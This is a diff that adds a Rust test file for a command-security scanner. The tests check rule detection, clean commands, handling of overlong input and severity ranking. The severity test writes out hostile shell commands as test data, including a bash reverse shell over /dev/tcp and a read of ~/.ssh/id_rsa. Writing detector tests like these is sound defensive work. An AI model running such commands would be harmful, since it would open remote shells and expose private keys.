@@ -1,0 +1,85 @@
+//! What commands are found under which rules, what stays clean, and which addresses are listed.
+
+use fullsend_guard::command::analyse;
+use fullsend_guard::{CommandScanner, Meaning, Scanner, Severity};
+
+mod laws;
+mod requests;
+
+/// The records of a table: the heading that a record stands below, and the record.
+fn records(table: &str) -> Vec<(&str, &str)> {
+    let mut found = Vec::new();
+    for section in table.split("== ").skip(1) {
+        let (heading, body) = section.split_once('\n').expect("a heading");
+        found.extend(body.split("\n%%\n").map(|record| (heading, record.trim_end_matches('\n'))));
+    }
+    found
+}
+
+#[test]
+fn attacks_are_found_under_their_rule() {
+    let table = include_str!("command/attacks.txt");
+    let records = records(table);
+    assert!(records.len() > 250, "{} attacks", records.len());
+    let mut wrong = Vec::new();
+    for (rule, command) in records {
+        let found: Vec<&str> = analyse(command).findings.iter().map(|finding| finding.rule.id).collect();
+        let understood = rule == "command_not_understood" || !found.contains(&"command_not_understood");
+        if !found.contains(&rule) || !understood {
+            wrong.push(format!("{rule}: {command}\n    found {found:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn every_rule_has_attacks() {
+    let table = include_str!("command/attacks.txt");
+    for rule in fullsend_guard::command::RULES {
+        let tested = table.contains(&format!("\n== {}\n", rule.id));
+        assert!(tested || rule.id == "command_too_long", "{}", rule.id);
+    }
+}
+
+#[test]
+fn ordinary_commands_are_clean() {
+    let table = include_str!("command/clean.txt");
+    let commands: Vec<&str> =
+        table.split("\n%%\n").skip(1).map(|command| command.trim_end_matches('\n')).collect();
+    assert!(commands.len() > 120, "{} commands", commands.len());
+    let mut wrong = Vec::new();
+    for command in commands {
+        for finding in analyse(command).findings {
+            wrong.push(format!("{command}\n    {} {}", finding.rule.id, finding.detail()));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn what_is_too_long_is_incomplete() {
+    let long = format!("echo {}", "a".repeat(65 * 1024));
+    let many = "true; ".repeat(2_000);
+    let deep = format!("echo {}x{}", "$(echo ".repeat(300), ")".repeat(300));
+    let nested = "sh -c \"sh -c 'eval \\\"bash -c ls\\\"'\"";
+    for script in [long.as_str(), many.as_str(), deep.as_str(), nested] {
+        let findings = CommandScanner.scan(script).findings;
+        let start: String = script.chars().take(40).collect();
+        assert!(
+            findings.iter().any(|finding| finding.rule.id == "command_too_long"),
+            "{start}: {findings:?}"
+        );
+        assert!(findings.iter().any(|finding| finding.rule.meaning == Meaning::Incomplete), "{start}");
+    }
+}
+
+#[test]
+fn severity_is_by_damage() {
+    let worst = |command: &str| analyse(command).findings.iter().map(|finding| finding.severity).max();
+    assert_eq!(worst("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), Some(Severity::Critical));
+    assert_eq!(worst("cat ~/.ssh/id_rsa"), Some(Severity::High));
+    assert_eq!(worst("curl -d @payload.json https://x.example"), Some(Severity::Medium));
+    assert_eq!(worst("echo > /dev/tcp/db/5432"), Some(Severity::Medium));
+    assert_eq!(worst("eval \"$(make-script)\""), Some(Severity::Low));
+    assert_eq!(worst("ls"), None);
+}
